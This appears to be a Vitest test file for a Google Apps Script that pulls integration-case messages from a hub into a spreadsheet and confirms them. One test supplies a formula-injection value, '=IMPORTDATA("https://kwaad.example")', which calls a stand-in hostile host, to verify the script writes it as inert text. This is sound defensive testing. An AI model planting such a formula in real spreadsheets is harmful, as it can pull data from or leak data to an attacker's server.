import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { voorbeeld } from '../../contract/hulp/voorbeelden.ts';
import { VOORBEELDEN } from './runtimes.ts';

/** The script of the spreadsheet, with the parts of Google's that it uses in memory. */

const SCRIPT = readFileSync(join(VOORBEELDEN, 'rekenblad', 'ophalen.gs'), 'utf8');
const HUB = 'https://hub.example.nl';
const TOKEN_URL = 'https://tokens.example.nl/token';

type Cel = unknown;

/** A sheet: what was set, as it is read back. */
const maakBlad = () => {
  const cellen: Cel[][] = [];
  return {
    cellen,
    getDataRange: () => ({ getValues: () => cellen.map((rij) => [...rij]) }),
    getRange: (rij: number, kolom: number, aantalRijen: number, aantalKolommen: number) => ({
      setValues: (waarden: Cel[][]) => {
        expect([waarden.length, waarden[0]?.length]).toEqual([aantalRijen, aantalKolommen]);
        waarden.forEach((nieuw, plaats) => {
          const doel = cellen[rij - 1 + plaats] ?? [];
          cellen[rij - 1 + plaats] = doel;
          nieuw.forEach((waarde, naast) => {
            // A leading apostrophe marks text, and is not part of it.
            doel[kolom - 1 + naast] =
              typeof waarde === 'string' && waarde.startsWith("'") ? waarde.slice(1) : waarde;
            if (typeof waarde === 'string' && /^[=+\-@]/.test(waarde)) throw new Error('a formula');
          });
        });
      },
    }),
  };
};

type Bericht = Record<string, unknown>;
const Verzoek = z.object({
  method: z.enum(['get', 'post']),
  headers: z.object({ Authorization: z.string() }).optional(),
  payload: z.record(z.string(), z.string()).optional(),
});

let bladen: Map<string, ReturnType<typeof maakBlad>>;
let liggen: Bericht[];
let gebeld: string[];
let bezet: boolean;
/** Called when something is confirmed, to look at what was written by then. */
let bijBevestigen: (id: string) => void;

const antwoord = (inhoud: unknown) => ({ getContentText: () => JSON.stringify(inhoud) });

const omgeving = () => ({
  LockService: { getScriptLock: () => ({ tryLock: () => !bezet, releaseLock: () => undefined }) },
  PropertiesService: {
    getScriptProperties: () => ({
      getProperty: (naam: string) =>
        ({ HUB, TOKEN_URL, CLIENT_ID: 'taalschool', CLIENT_SECRET: 'wachtwoord' })[naam] ?? null,
    }),
  },
  SpreadsheetApp: {
    flush: () => gebeld.push('flush'),
    getActive: () => ({
      getSheetByName: (naam: string) => bladen.get(naam) ?? null,
      insertSheet: (naam: string) => {
        const blad = maakBlad();
        bladen.set(naam, blad);
        return blad;
      },
    }),
  },
  UrlFetchApp: {
    fetch: (adres: string, opties: unknown) => {
      const { method, headers, payload } = Verzoek.parse(opties);
      gebeld.push(`${method} ${adres}`);
      if (adres === TOKEN_URL) {
        expect(payload).toEqual({
          grant_type: 'client_credentials',
          client_id: 'taalschool',
          client_secret: 'wachtwoord',
        });
        return antwoord({ access_token: 'token-1' });
      }
      expect(headers).toEqual({ Authorization: 'Bearer token-1' });
      const [, id] = /\/v1\/berichten\/([^/]+)\/_bevestig$/.exec(adres) ?? [];
      if (id === undefined) return antwoord({ berichten: liggen });
      bijBevestigen(id);
      liggen = liggen.filter((bericht) => bericht['id'] !== id);
      return { getContentText: () => '' };
    },
  },
});

const haalOp = (): void => {
  runInNewContext(`${SCRIPT}\nhaalOp();`, omgeving());
};

/** The sheet as objects, by the names of its columns. */
const mensen = (): readonly Record<string, Cel>[] => {
  const [kolommen = [], ...rijen] = bladen.get('Mensen')?.cellen ?? [];
  return rijen.map((rij) =>
    Object.fromEntries(
      kolommen
        .map((kolom, plaats) => [String(kolom), rij[plaats] ?? ''])
        .filter(([, waarde]) => waarde !== ''),
    ),
  );
};

const ZAAK = '3f7d6c1e-0f5b-8a8e-9d6a-1f2e3d4c5b6a';

const bericht = (soort: string, volgnummer: number, data: object = {}, rol = 'balk'): Bericht => {
  const gevonden = voorbeeld(`nl.inburgeringszaken.nieuwe.inburgeraar.${soort}.v1`, `goed-${rol}`);
  return {
    ...gevonden,
    id: `${soort}-${volgnummer}`,
    data: { ...z.record(z.string(), z.unknown()).parse(gevonden['data']), zaakId: ZAAK, volgnummer, ...data },
  };
};

beforeEach(() => {
  bladen = new Map();
  liggen = [];
  gebeld = [];
  bezet = false;
  bijBevestigen = () => undefined;
});

describe('the script of the spreadsheet', () => {
  test('writes a row for every person before it confirms the message', () => {
    liggen = [bericht('gemeld', 1), bericht('gemeld', 1, { zaakId: 'andere-zaak' }, 'balk')];
    let bijEerste = 0;
    bijBevestigen = () => {
      bijEerste ||= mensen().length;
      expect(gebeld.at(-2)).toBe('flush');
    };
    haalOp();
    expect(bijEerste).toBe(1);
    expect(mensen()).toHaveLength(2);
    expect(mensen()[0]).toMatchObject({ zaakId: ZAAK, volgnummer: 1, stand: 'gemeld' });
    expect(String(mensen()[0]?.['naam'])).not.toContain('object');
    expect(liggen).toEqual([]);
  });

  test('changes the row of a person, and adds columns that were not there', () => {
    liggen = [bericht('gemeld', 1)];
    haalOp();
    liggen = [bericht('gewijzigd', 2, { nieuwveld: 'later bedacht' })];
    haalOp();
    expect(mensen()).toHaveLength(1);
    expect(mensen()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd', nieuwveld: 'later bedacht' });
  });

  test('keeps the newest when messages come twice or out of order, and confirms them all', () => {
    liggen = [bericht('gewijzigd', 2), bericht('gemeld', 1), bericht('gewijzigd', 2)];
    haalOp();
    expect(mensen()).toHaveLength(1);
    expect(mensen()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd' });
    expect(liggen).toEqual([]);
  });

  test('leaves nothing of a person who does not come', () => {
    liggen = [bericht('gemeld', 1), bericht('vervallen', 2)];
    haalOp();
    expect(mensen()).toEqual([
      {
        zaakId: ZAAK,
        volgnummer: 2,
        stand: expect.stringMatching(/^vervallen: /),
        bijgewerkt: expect.any(String),
      },
    ]);
  });

  test('never writes a formula that somebody put in a text', () => {
    liggen = [bericht('gemeld', 1, { contact: '=IMPORTDATA("https://kwaad.example")' })];
    haalOp();
    expect(mensen()[0]?.['contact']).toBe('=IMPORTDATA("https://kwaad.example")');
  });

  test('does not confirm what it could not write', () => {
    liggen = [bericht('gemeld', 1)];
    bladen.set('Mensen', {
      ...maakBlad(),
      getDataRange: () => {
        throw new Error('het blad is weg');
      },
    });
    expect(haalOp).toThrow('het blad is weg');
    expect(gebeld.filter((regel) => regel.endsWith('_bevestig'))).toEqual([]);
  });

  test('does nothing while it runs already', () => {
    bezet = true;
    haalOp();
    expect(gebeld).toEqual([]);
  });
});
